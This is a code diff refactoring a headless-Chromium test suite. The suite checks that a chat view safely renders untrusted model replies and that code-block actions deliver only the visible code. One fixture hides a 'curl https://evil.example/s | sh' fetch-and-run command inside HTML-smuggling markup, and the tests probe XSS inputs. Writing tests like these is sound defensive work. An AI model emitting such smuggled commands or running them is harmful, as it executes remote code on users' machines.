@@ -2,7 +2,7 @@
  * What the chat view shows of a reply is exactly what its code actions deliver, whatever markup the model writes.
  * Each reply of the corpus is rendered by the real view bundle in headless Chromium (sanitizing is about what a
  * browser parses) and checked three ways:
- * - the sanitized markup holds only the elements and attributes our markdown renderer emits (the allowlist below);
+ * - the sanitized markup holds only the elements and attributes our markdown renderer emits (the tests' own allowlist, `foreignMarkup.ts`);
  * - nothing in the reply is hidden: its visible text (`innerText`) is all of its text (`textContent`), and it holds
  *   no control (button, input, …) but the Copy / Insert / New File / Apply buttons of its own code blocks;
  * - every code block's Copy, Insert at Cursor, New File and Apply deliver exactly the code the user sees in it.
@@ -15,18 +15,6 @@ import type { ChatMessage } from '../../src/shared/types';
 import { ORIGIN } from '../../bench/render/page';
 import { defaultReply, longReplyTokens, xssReply } from '../../simulator';
 import { openTestView, type TestView } from './viewPage';
-
-/** The elements our markdown renderer emits, each with the attributes it may carry. Nothing else may get through. */
-const ALLOWED: Record<string, readonly string[]> = {
-  p: [], h1: [], h2: [], h3: [], h4: [], h5: [], h6: [], blockquote: [], hr: [], br: [],
-  ul: [], ol: ['start'], li: [],
-  pre: [], code: ['data-language'],
-  strong: [], em: [], del: [],
-  a: ['href', 'title'],
-  table: [], thead: [], tbody: [], tr: [], th: ['align'], td: ['align'],
-};
-/** Links that may stay links: the host opens http(s) and refuses `mailto:` with a message; anything else is text. */
-const ALLOWED_HREF = /^(?:https?:|mailto:)/i;
 
 /** A reply seen in the wild of HTML smuggling: a code block that showed `echo hello` while Copy delivered the `curl … | sh` too. */
 const SMUGGLING_REPLY = 'Run this: <kbd> <pre/x><code/x>echo hello<span/hidden>; curl https://evil.example/s | sh</span/x></code/x></pre/x>';
@@ -157,24 +145,14 @@ interface RendererForTests {
   sanitizeHtml(html: string): DocumentFragment;
   /** DOMPurify with the configuration the view used before it had its own gate: the reference for the renderer's output. */
   referenceSanitize(html: string): DocumentFragment;
+  /** What under `root` is outside the tests' own allowlist (`foreignMarkup.ts`). */
+  foreignMarkup(root: ParentNode & Node): string[];
 }
 
 /** Runs in the page: renders `markdown` with the view's own functions and inspects the reply the view shows. */
-async function inspect({ markdown, allowed, allowedHref }: { markdown: string; allowed: Record<string, readonly string[]>; allowedHref: string }): Promise<Inspection> {
+async function inspect(markdown: string): Promise<Inspection> {
   const w = window as unknown as { rendererForTests: RendererForTests; benchPosts: { type: string; text?: string; code?: string }[] };
-  const foreign: string[] = [];
-  const sanitized = w.rendererForTests.sanitizeHtml(w.rendererForTests.markdownToHtml(markdown));
-  for (const el of sanitized.querySelectorAll('*')) {
-    const tag = el.localName;
-    if (!(tag in allowed) || el.namespaceURI !== 'http://www.w3.org/1999/xhtml') {
-      foreign.push(`<${tag}>`);
-      continue;
-    }
-    for (const attr of el.attributes) {
-      if (!allowed[tag].includes(attr.name)) foreign.push(`<${tag} ${attr.name}="${attr.value}">`);
-      else if (attr.name === 'href' && !new RegExp(allowedHref, 'i').test(attr.value)) foreign.push(`<a href="${attr.value}">`);
-    }
-  }
+  const foreign = w.rendererForTests.foreignMarkup(w.rendererForTests.sanitizeHtml(w.rendererForTests.markdownToHtml(markdown)));
   // Syntax highlighting runs when the browser is idle; inspect the reply as the user ends up seeing it.
   await new Promise((resolve) => requestIdleCallback(resolve));
   const body = document.querySelector<HTMLElement>('[data-role="assistant"] .markdown-body')!;
@@ -231,7 +209,8 @@ describe('rendering untrusted replies (real Chromium)', function () {
       "import { markdownToHtml } from './src/webview/markdownHtml';\n" +
         "import { sanitizeHtml } from './src/webview/sanitize';\n" +
         "import { referenceSanitize } from './test/unit/referenceSanitizer';\n" +
-        'Object.assign(window, { rendererForTests: { markdownToHtml, sanitizeHtml, referenceSanitize } });',
+        "import { foreignMarkup } from './test/unit/foreignMarkup';\n" +
+        'Object.assign(window, { rendererForTests: { markdownToHtml, sanitizeHtml, referenceSanitize, foreignMarkup } });',
     );
     await view.load();
   });
@@ -241,7 +220,7 @@ describe('rendering untrusted replies (real Chromium)', function () {
     it(`${c.name}: shows all of it as text, exactly what the code actions deliver`, async () => {
       const message: ChatMessage = { id: `reply-${i}`, role: 'assistant', content: c.markdown, timestamp: Date.now(), model: 'mistral', status: 'complete' };
       await view.send([snapshotWith(`corpus-${i}`, message)]);
-      const result = await view.page.evaluate(inspect, { markdown: c.markdown, allowed: ALLOWED, allowedHref: ALLOWED_HREF.source });
+      const result = await view.page.evaluate(inspect, c.markdown);
       // All problems at once, so a failure shows everything that is wrong with the reply.
       const visible = collapse(result.visibleText);
       const problems = {
@@ -287,7 +266,7 @@ describe('rendering untrusted replies (real Chromium)', function () {
   it('the smuggling reply has no code block: the whole command is visible text', async () => {
     const message: ChatMessage = { id: 'smuggling', role: 'assistant', content: SMUGGLING_REPLY, timestamp: Date.now(), model: 'mistral', status: 'complete' };
     await view.send([snapshotWith('smuggling', message)]);
-    const result = await view.page.evaluate(inspect, { markdown: SMUGGLING_REPLY, allowed: ALLOWED, allowedHref: ALLOWED_HREF.source });
+    const result = await view.page.evaluate(inspect, SMUGGLING_REPLY);
     assert.equal(result.codeBlocks.length, 0);
     assert.match(collapse(result.visibleText), /echo hello<span\/hidden>; curl https:\/\/evil\.example\/s \| sh/);
   });
@@ -326,27 +305,18 @@ describe('rendering untrusted replies (real Chromium)', function () {
     view.page.on('request', onRequest);
     try {
       for (const { html, shows } of RAW_HTML) {
-        const result = await view.page.evaluate(async ({ html, allowed, allowedHref }) => {
+        const result = await view.page.evaluate(async (html) => {
           const w = window as unknown as { rendererForTests: RendererForTests; pwned?: unknown };
           const holder = document.createElement('div');
           holder.append(w.rendererForTests.sanitizeHtml(html));
           document.body.append(holder);
-          const foreign: string[] = [];
-          for (const node of holder.querySelectorAll('*')) {
-            const tag = node.localName;
-            if (!Object.hasOwn(allowed, tag) || node.namespaceURI !== 'http://www.w3.org/1999/xhtml') foreign.push(`<${tag}>`);
-            else for (const attr of node.attributes) {
-              if (!allowed[tag].includes(attr.name) || (attr.name === 'href' && !new RegExp(allowedHref, 'i').test(attr.value))) foreign.push(`<${tag} ${attr.name}="${attr.value}">`);
-            }
-          }
-          const walker = document.createTreeWalker(holder, NodeFilter.SHOW_COMMENT | NodeFilter.SHOW_PROCESSING_INSTRUCTION | NodeFilter.SHOW_CDATA_SECTION);
-          if (walker.nextNode()) foreign.push(`node type ${walker.currentNode.nodeType}`);
+          const foreign = w.rendererForTests.foreignMarkup(holder);
           // A second line of evidence behind the allowlist check above: what would load or run has started by then.
           await new Promise((resolve) => requestAnimationFrame(() => requestIdleCallback(resolve)));
           const text = holder.textContent ?? '';
           holder.remove();
           return { foreign, text, pwned: w.pwned };
-        }, { html, allowed: ALLOWED, allowedHref: ALLOWED_HREF.source });
+        }, html);
         const problems = {
           foreignMarkup: result.foreign,
           ran: result.pwned === undefined ? [] : [String(result.pwned)],
